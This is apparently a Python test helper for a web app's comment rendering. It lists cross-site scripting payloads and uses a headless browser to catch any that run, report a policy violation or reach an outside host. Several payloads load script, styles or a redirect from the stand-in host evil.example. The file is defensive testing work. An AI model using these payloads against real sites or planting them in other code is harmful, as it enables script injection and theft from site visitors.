"""Lines that try to run as a program, and a browser that tells whether one did."""

from pathlib import Path

SAMPLES = Path(__file__).parents[3] / "shared/samples/xss"
OWN = [
    "<script>alert(1)</script>",
    "</p></div><svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)' x='",
    "javascript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script src=//evil.example/x.js></script>",
    "[click](javascript:alert(1)) <a href=javascript:alert(1)>click</a>",
    "</textarea></title></script><iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u2028<base href=//evil.example>\u202e<meta http-equiv=refresh content='0;//evil.example'>",
]
TELL = """
document.addEventListener('securitypolicyviolation', (event) => {
    console.error('POLICY ' + event.violatedDirective + ' ' + event.blockedURI);
});
"""
HANDLERS = """() => [...document.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes]
        .filter((a) => /^on/i.test(a.name) || (
            /href|src|action|data$|poster/i.test(a.name) && /^\\s*javascript:/i.test(a.value)
        ))
        .map((a) => element.tagName + ' ' + a.name + '=' + a.value.slice(0, 80)))"""
FOREIGN = """() => [...document.querySelectorAll('.comment-body *')].flatMap((element) => [
    ...(['P', 'BR', 'A'].includes(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes]
        .filter((a) => !['dir', 'href', 'rel'].includes(a.name))
        .map((a) => a.name),
    ...(element.href && !/^https?:/.test(element.href) ? [element.href] : []),
])"""


def sample_lines() -> list[str]:
    """Every line of the shared samples; empty where these are not here."""
    files = sorted(path for path in SAMPLES.rglob("*") if path.is_file())
    texts = (path.read_bytes().decode("utf-8", "replace") for path in files)
    lines = (
        line.replace("\0", "").strip() for text in texts for line in text.splitlines()
    )
    return [line for line in dict.fromkeys(lines) if line]


class Watch:
    """Opens addresses in a page and keeps everything that should not have happened."""

    def __init__(self, page, home: str):
        self.page, self.home, self.found = page, home, []
        page.add_init_script(TELL)
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.found.append(f"error: {error}"))
        page.route("**/*", self._request)

    def open(self, address: str) -> None:
        """Look at the page as a reader does, and at its elements."""
        self.page.goto(address)
        self.found += [f"{address}: {x}" for x in self.page.evaluate(HANDLERS)]
        self.found += [f"{address}: {x}" for x in self.page.evaluate(FOREIGN)]

    def wait_for(self, told: str) -> None:
        """Until it was seen; the browser tells of some things after the page is there."""
        for _ in range(300):
            if told in " ".join(self.found):
                return
            self.page.wait_for_timeout(100)
        raise AssertionError(f"{told!r} is not in {self.found}")

    def _dialog(self, dialog) -> None:
        self.found.append(f"dialog: {dialog.message} on {self.page.url}")
        dialog.dismiss()

    def _console(self, message) -> None:
        if "POLICY " in message.text or "Content Security Policy" in message.text:
            self.found.append(f"{message.text} on {self.page.url}")

    def _request(self, route) -> None:
        address = route.request.url
        if address.startswith((self.home, "data:", "blob:")):
            route.continue_()
        else:
            self.found.append(f"asked {address} from {self.page.url}")
            route.abort()
